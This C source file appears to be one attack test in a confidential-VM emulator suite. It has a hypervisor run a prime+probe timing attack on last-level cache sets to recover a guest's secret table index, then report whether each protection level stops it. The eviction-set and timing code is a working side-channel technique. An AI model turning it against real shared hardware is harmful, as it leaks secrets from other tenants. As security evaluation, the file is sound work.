/*
 * cache-probing (cvm-model 7, row 5): cross-ASID prime+probe on the last-level cache (Osvik, Shamir and
 * Tromer, CT-RSA 2006).
 *
 * Cache lines are tagged (address, ASID, enc) (cvm-model 4.1), so the guest's lines never hit for the
 * hypervisor: data is isolated. The sets are shared, though, and so is the replacement: the
 * hypervisor fills ("primes") every way of the 16 LLC sets that the guest's table maps to with its
 * own lines, lets the guest run, then reloads its lines and times each set with rdcycle ("probe").
 * The set where the guest's lookup evicted one of them is slow: its index is the guest's secret.
 * Nothing here is stopped by encryption, register protection or integrity: tags isolate data, not
 * timing.
 *
 * Timing (emulator/cvm/README.md, "Timing"): with the cache model on, cycle = retired instructions +
 * 10 per L1 miss + 100 more per LLC miss. The machine configuration (cache-probing.vmscope.json)
 * has a 4-way LLC of 256 sets: a set index is physical address bits 6..13, so lines 16 KiB apart
 * share a set.
 */
#include "hv.h"
#include "secret.h"

#define NAME "cache-probing"
#define LLC_WAYS 4u
#define LLC_SPAN (256u * 64u) /* sets x line: addresses this far apart share a set */
#define SLOW 200u             /* a set that lost a line costs 4 x (10 + 100) cycles; one that did not, 4 x 10 */

static u8 *evset; /* LLC_WAYS x LLC_SPAN bytes of the hypervisor's own: way w of set s at w * LLC_SPAN + 64 s */

static inline u32 rdcycle(void) {
  u32 c;
  __asm__ volatile("rdcycle %0" : "=r"(c)::"memory");
  return c;
}

static inline void touch(u32 pa) {
  __asm__ volatile("lw zero, 0(%0)" ::"r"(pa) : "memory");
}

/* The hypervisor's lines in the LLC set of host address `pa`. */
static u32 way(u32 pa, u32 w) {
  return (u32)(uintptr_t)evset + w * LLC_SPAN + (pa & (LLC_SPAN - 1) & ~63u);
}

static void prime(u32 table_pa) {
  for (u32 i = 0; i < TABLE_ENTRIES; i++)
    for (u32 w = 0; w < LLC_WAYS; w++) touch(way(table_pa + i * TABLE_STRIDE, w));
}

/* Cycles to reload the hypervisor's ways of each set (the addresses are computed outside the timing). */
static void probe(u32 table_pa, u32 cycles[TABLE_ENTRIES]) {
  for (u32 i = 0; i < TABLE_ENTRIES; i++) {
    u32 pa = table_pa + i * TABLE_STRIDE;
    u32 w0 = way(pa, 0), w1 = way(pa, 1), w2 = way(pa, 2), w3 = way(pa, 3);
    u32 t0 = rdcycle();
    touch(w0);
    touch(w1);
    touch(w2);
    touch(w3);
    cycles[i] = rdcycle() - t0;
  }
}

static void attack(enum level level) {
  struct guest g;
  if (guest_launch(&g, level, level + 1, NAME) != SP_SUCCESS) return;
  if (guest_run_to_step(&g, 1) != 0) {
    result(NAME, level, "ERROR", "the guest did not reach step 1");
    return;
  }
  u32 table_pa = gpa_to_pa(&g, g.ghcb->arg[1]);
  hv_printf("[hv] the guest's table is at host %x: LLC sets %u..%u; priming them\n", table_pa, (table_pa >> 6) & 255,
            ((table_pa >> 6) & 255) + TABLE_ENTRIES - 1);
  prime(table_pa); /* the attack, part 1 */
  u32 cause = guest_run_to_step(&g, 2);
  u32 cycles[TABLE_ENTRIES];
  probe(table_pa, cycles); /* the attack, part 2: first, before anything else disturbs the sets */
  if (cause != 0) {
    result(NAME, level, "ERROR", "the guest did not reach step 2");
    return;
  }
  hv_printf("[hv] probe cycles per set:");
  u32 found = TABLE_ENTRIES, slow = 0;
  for (u32 i = 0; i < TABLE_ENTRIES; i++) {
    hv_printf(" %u", cycles[i]);
    if (cycles[i] >= SLOW) {
      slow++;
      found = i;
    }
  }
  hv_printf("\n");
  if (slow == 1 && found == SECRET_INDEX)
    result(NAME, level, level == LEVEL_NONE ? "SUCCEEDED" : "NOT-STOPPED",
           "one slow set: the guest's secret index is %u (tags isolate data, not timing)", found);
  else
    result(NAME, level, "ERROR", "%u slow sets, last %u", slow, found);
  if (!guest_finish(&g)) result(NAME, level, "ERROR", "the guest did not finish");
}

void attack_main(void) {
  hv_printf("[attacks] %s: the hypervisor primes LLC sets, lets the guest run, and times them (cvm-model 7)\n", NAME);
  evset = alloc_zeroed(LLC_WAYS * LLC_SPAN);
  cache_flush_range((u32)(uintptr_t)evset, LLC_WAYS * LLC_SPAN);
  for (int level = LEVEL_NONE; level < NLEVELS; level++) attack((enum level)level);
}
